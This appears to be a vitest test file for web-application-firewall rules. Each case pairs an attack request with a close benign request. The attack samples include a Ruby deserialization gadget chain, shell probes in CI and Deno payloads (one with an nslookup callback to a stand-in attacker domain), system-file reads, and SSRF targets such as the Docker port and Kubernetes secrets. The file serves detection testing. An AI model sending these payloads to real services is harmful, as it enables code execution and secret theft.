/**
 * Bundled rules of rev 2026-12-16e (issues 14 and 18, session 35, ho35): mechanisms held-out-28's misses showed (read),
 * each written for the class rather than the product and kept only with no benign hit. Each fires on its attack, sent
 * the way such an exploit sends it, and stays quiet on the benign request closest to it: JSON with a date addition, a
 * ^o key naming no class, springdoc's relative configUrl, a CI task running its build with sh -c, a script reading an
 * application file.
 */
import { describe } from 'vitest';
import { BROWSER, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet, get, postJson } from './bundled-requests.js';
import type { RequestSpec } from './fixtures.js';

const { hits, rules } = useBundledRuleSet();

const put = (url: string, contentType: string, body: string): RequestSpec => ({ method: 'PUT', url, headers: [...BROWSER, ['Content-Type', contentType]], body });

const CASES: RuleCase[] = [
  [9001094, 'block', 'an Oj object-mode gadget chain in a JSON field', postJson('/api/import', '{"data":{"^o":"Gem::Requirement","requirements":[["=",{"^o":"Gem::Version","version":{"^o":"Net::WriteAdapter","socket":{"^c":"Kernel"},"method_id":":system"}}]]}}'), postJson('/api/import', '{"data":{"^o":"","note":"the ^o key of our exporter"}}')],
  [9001094, 'block', 'a JSON.load addition naming a template class', postJson('/webhooks/incoming', '{"payload":{"json_class":"ERB","src":"<%= `id` %>"}}'), postJson('/webhooks/incoming', '{"payload":{"json_class":"Date","y":2026,"m":12,"d":7,"sg":2299161.0}}')],
  [9000221, 'block', 'Swagger UI given a remote config URL', get('/swagger-ui/index.html?configUrl=https%3A%2F%2Fcdn.example.net%2Fx.json'), get('/swagger-ui/index.html?configUrl=/v3/api-docs/swagger-config')],
  [9000221, 'block', 'Swagger UI given a data: spec', get('/swagger-ui.html?url=data:application/json;base64,eyJvcGVuYXBpIjoiMy4wLjAifQ=='), get('/swagger-ui.html?url=/openapi.yaml')],
  [9000393, 'block', 'a Concourse task running sh -c with a probe in a YAML flow list', put('/api/v1/teams/main/pipelines/app/config', 'application/x-yaml', 'jobs:\n- name: t\n  plan:\n  - task: run\n    config:\n      platform: linux\n      run:\n        path: sh\n        args: [-c, "ls -la /tmp"]\n'), put('/api/v1/teams/main/pipelines/app/config', 'application/x-yaml', 'jobs:\n- name: t\n  plan:\n  - task: run\n    config:\n      platform: linux\n      run:\n        path: sh\n        args: [-c, "npm ci && npm test"]\n')],
  [9000393, 'block', 'a YAML block list whose command looks up an outside name', put('/api/v1/teams/dev/pipelines/x/config', 'application/x-yaml', 'run:\n  path: bash\n  args:\n    - -c\n    - "nslookup q1w2e3.cb.attacker-example.ru"\n'), put('/api/v1/teams/dev/pipelines/x/config', 'application/x-yaml', 'run:\n  path: bash\n  args:\n    - -c\n    - "nslookup orders-db.web.svc.cluster.local"\n')],
  [9000393, 'block', 'Deno code in a JSON string spawning sh -c whoami', postJson('/api/w/demo/jobs/run/preview', '{"content":"export async function main() {\\n  const p = new Deno.Command(\\"sh\\", { args: [\\"-c\\", \\"whoami\\"] });\\n}\\n","language":"deno"}'), postJson('/api/w/demo/jobs/run/preview', '{"content":"export async function main() {\\n  const p = new Deno.Command(\\"sh\\", { args: [\\"-c\\", \\"deno task build\\"] });\\n}\\n","language":"deno"}')],
  [9000393, 'block', 'a JavaScript transaction starting /bin/sh -c id', postJson('/_api/transaction', '{"collections":{"read":[]},"action":"function () { return require(\'internal\').executeExternalAndWait(\'/bin/sh\', [\'-c\', \'id\']); }"}'), postJson('/_api/transaction', '{"collections":{"read":[]},"action":"function () { return require(\'internal\').executeExternalAndWait(\'/bin/sh\', [\'-c\', \'backup.sh nightly\']); }"}')],
  [9000393, 'block', 'a file manager\'s event hook running a probe', { method: 'PUT', url: '/api/settings', headers: [...BROWSER, ['Content-Type', 'text/plain;charset=UTF-8']], body: '{"signup":false,"shell":["/bin/sh","-c"],"commands":{"after_copy":[],"after_delete":["whoami"],"before_save":[]}}' }, { method: 'PUT', url: '/api/settings', headers: [...BROWSER, ['Content-Type', 'text/plain;charset=UTF-8']], body: '{"signup":false,"shell":["/bin/sh","-c"],"commands":{"after_copy":[],"after_upload":["/usr/local/bin/scan-upload"],"before_save":[]}}' }],
  [9000425, 'block', 'a JavaScript action reading /etc/issue', postJson('/_api/transaction', '{"collections":{"read":[]},"action":"function () { var fs = require(\'fs\'); return fs.read(\'/etc/issue\'); }"}'), postJson('/_api/transaction', '{"collections":{"read":[]},"action":"function () { var fs = require(\'fs\'); return fs.read(\'/var/lib/app/export.json\'); }"}')],
  [9000425, 'block', 'a script reading /proc/version through open()', postJson('/api/scripts', '{"source":"print(open(\\"/proc/version\\").read())"}'), postJson('/api/scripts', '{"source":"print(open(\\"/srv/app/version.txt\\").read())"}')],
  [9000510, 'block', 'a notify call whose jsons:// URL names LOCALHOST', postJson('/notify', '{"urls":"jsons://LOCALHOST:2375/","title":"Backup done","body":"ok"}'), postJson('/notify', '{"urls":"jsons://hooks.example.com/notify","title":"Backup done","body":"ok"}')],
  [9000510, 'block', 'a form notify to the cluster API\'s secrets over xml://', { method: 'POST', url: '/notify/', headers: [...BROWSER, ['Content-Type', 'application/x-www-form-urlencoded']], body: 'urls=xml%3A%2F%2F10.96.0.1%3A443%2Fapi%2Fv1%2Fnamespaces%2Fkube-system%2Fsecrets&title=Alert&body=ok' }, { method: 'POST', url: '/notify/', headers: [...BROWSER, ['Content-Type', 'application/x-www-form-urlencoded']], body: 'urls=xml%3A%2F%2F10.0.4.12%3A8080%2Fhook&title=Alert&body=ok' }],
];

describe('bundled rules from held-out-28\'s misses (rev 2026-12-16e, 16f)', () => {
  testRuleCases(CASES, hits);
  testPrefilterEntries(CASES.map(([sid]) => sid), rules);
});
